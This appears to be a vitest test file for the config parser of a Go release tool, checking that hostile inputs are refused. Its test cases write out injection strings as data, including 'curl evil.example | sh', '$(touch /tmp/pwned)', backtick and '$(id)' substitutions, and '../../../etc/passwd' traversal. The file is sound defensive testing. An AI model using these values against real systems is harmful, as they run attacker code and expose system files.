// Hostile inputs: each is refused with a ConfigError that names the input, before anything runs.
import { test } from 'vitest';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { ConfigError, parseConfig, type RawInputs } from '../../src/config/config.ts';

function workspace(): string {
  const ws = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'grg-inputs-')));
  fs.mkdirSync(path.join(ws, 'sub'));
  fs.writeFileSync(path.join(ws, 'go.mod'), 'module example.com/x\n\ngo 1.22\n');
  return ws;
}

function refused(inputs: RawInputs, input: string, message: RegExp, ws = workspace()): void {
  assert.throws(
    () => parseConfig(inputs, { workspace: ws, env: {} }),
    (e: unknown) => {
      assert.ok(e instanceof ConfigError, `not a ConfigError: ${String(e)}`);
      assert.equal(e.input, input);
      assert.match(e.message, new RegExp(`^input ${input}: `));
      assert.match(e.message, message);
      return true;
    },
    JSON.stringify(inputs),
  );
}

const CASES: [string, RawInputs, string, RegExp][] = [
  // Newlines in single-line inputs.
  ['newline in ldflags', { ldflags: '-s\n-X main.v=1' }, 'ldflags', /single line/],
  ['newline in mode', { mode: 'check\nrelease' }, 'mode', /single line/],
  ['CR in working-directory', { 'working-directory': 'sub\r' + 'x' }, 'working-directory', /single line/],
  ['control character', { 'go-version': '1.26\u001b[31m' }, 'go-version', /control character U\+001B at position 5/],
  ['CRLF list items are fine, a NUL is not', { targets: 'linux/amd64\r\nlinux/\u0000arm64' }, 'targets', /control character U\+0000/],
  // Paths that leave the workspace.
  ['.. out of the workspace', { 'working-directory': '../..' }, 'working-directory', /outside the workspace/],
  ['.. hidden in the middle', { 'working-directory': 'sub/../../etc' }, 'working-directory', /outside the workspace/],
  ['absolute path elsewhere', { 'output-dir': '/etc' }, 'output-dir', /outside the workspace/],
  ['go-version-file outside', { 'go-version-file': '../../../etc/passwd' }, 'go-version-file', /outside the workspace/],
  ['packages leaving the module', { packages: './cmd/app,../other/cmd' }, 'packages', /leaves the module/],
  ['packages absolute', { packages: '/etc/cmd' }, 'packages', /leaves the module/],
  // Shell metacharacters: never expanded, so refused.
  ['command substitution in ldflags', { ldflags: '-X main.v=$(touch /tmp/pwned)' }, 'ldflags', /contains "\$" at position 11: go-release-gate runs no shell/],
  ['command separator in ldflags', { ldflags: '-s -w; curl evil.example | sh' }, 'ldflags', /contains ";"/],
  ['backticks in ldflags', { ldflags: '-X main.v=`id`' }, 'ldflags', /contains "`"/],
  ['variable in output-dir', { 'output-dir': '$HOME/out' }, 'output-dir', /contains "\$"/],
  ['glob in working-directory', { 'working-directory': 'sub/*' }, 'working-directory', /contains "\*"/],
  ['quote in go-version-file', { 'go-version-file': "go.mod'" }, 'go-version-file', /contains "'"/],
  ['tilde in output-dir', { 'output-dir': '~/out' }, 'output-dir', /"~", which is not expanded/],
  ['pipe in a package', { packages: './cmd|id' }, 'packages', /not a package path/],
  ['semicolon in targets', { targets: 'linux/amd64;id' }, 'targets', /not of the form GOOS\/GOARCH/],
  ['substitution in tags', { tags: 'netgo,$(id)' }, 'tags', /not a build tag/],
  ['substitution in go-version', { 'go-version': '1.26 && touch x' }, 'go-version', /not a Go version/],
  ['space in the download URL', { 'go-download-base-url': 'https://mirror.example/dl -o /etc/passwd' }, 'go-download-base-url', /contains " "/],
  ['query in the download URL', { 'go-download-base-url': 'https://mirror.example/dl?x=1' }, 'go-download-base-url', /query or fragment/],
  ['credentials in the download URL', { 'go-download-base-url': 'https://user:secret@mirror.example/dl' }, 'go-download-base-url', /credentials/],
  ['file URL', { 'go-download-base-url': 'file:///etc' }, 'go-download-base-url', /must be http/],
  ['bad rule override', { rules: 'build/compile-failed=ignore' }, 'rules', /not "rule-id=off\|note\|warning\|error"/],
  // Unknown enum values.
  ['unknown mode', { mode: 'ship-it' }, 'mode', /"ship-it" is not one of auto, check, release/],
  ['mode in the wrong case', { mode: 'Release' }, 'mode', /values are lower-case: release/],
  ['unknown cache mode', { cache: 'write-only' }, 'cache', /not one of auto, read-write, read-only, off/],
  ['unknown boolean', { cgo: 'maybe' }, 'cgo', /not a boolean/],
  ['unknown input', { 'go-versoin': '1.26' }, 'go-versoin', /not a known input/],
];

for (const [what, inputs, input, message] of CASES) {
  test(`refused: ${what}`, () => refused(inputs, input, message));
}

test('a symlink inside the workspace that points out of it is refused, even for a directory not created yet', () => {
  const ws = workspace();
  const outside = fs.mkdtempSync(path.join(os.tmpdir(), 'grg-outside-'));
  fs.symlinkSync(outside, path.join(ws, 'link'));
  refused({ 'output-dir': 'link/new/out' }, 'output-dir', /outside the workspace/, ws);
  refused({ 'working-directory': 'link' }, 'working-directory', /outside the workspace/, ws);
  assert.equal(fs.readdirSync(outside).length, 0, 'nothing was created behind the link');
});

test('unusual but legitimate values pass and arrive unchanged', () => {
  const ws = workspace();
  fs.mkdirSync(path.join(ws, 'dir with space'));
  const c = parseConfig({
    'working-directory': 'dir with space',
    'output-dir': 'sub/../out dir',
    ldflags: `-X 'main.version=1.2.3 beta' -X "main.commit=abc" -extldflags=-static`,
    'go-version': '>=1.25 <1.27 || 1.24.x',
    packages: './cmd/app, example.com/x/v2/cmd/tool@latest',
    targets: 'linux/amd64\r\nwindows/arm64',
    'go-download-base-url': 'https://mirror.example.com:8443/golang/',
    mode: 'release',
    cache: 'off',
  }, { workspace: ws, env: {} });
  assert.equal(c.dir, path.join(ws, 'dir with space'));
  assert.equal(c.outDir, path.join(ws, 'out dir'));
  assert.equal(c.ldflags, `-X 'main.version=1.2.3 beta' -X "main.commit=abc" -extldflags=-static`);
  assert.equal(c.goVersion, '>=1.25 <1.27 || 1.24.x');
  assert.deepEqual(c.packages, ['./cmd/app', 'example.com/x/v2/cmd/tool@latest']);
  assert.equal(c.goDownloadBaseUrl, 'https://mirror.example.com:8443/golang');
  assert.deepEqual([c.mode, c.cache], ['release', 'off']);
});
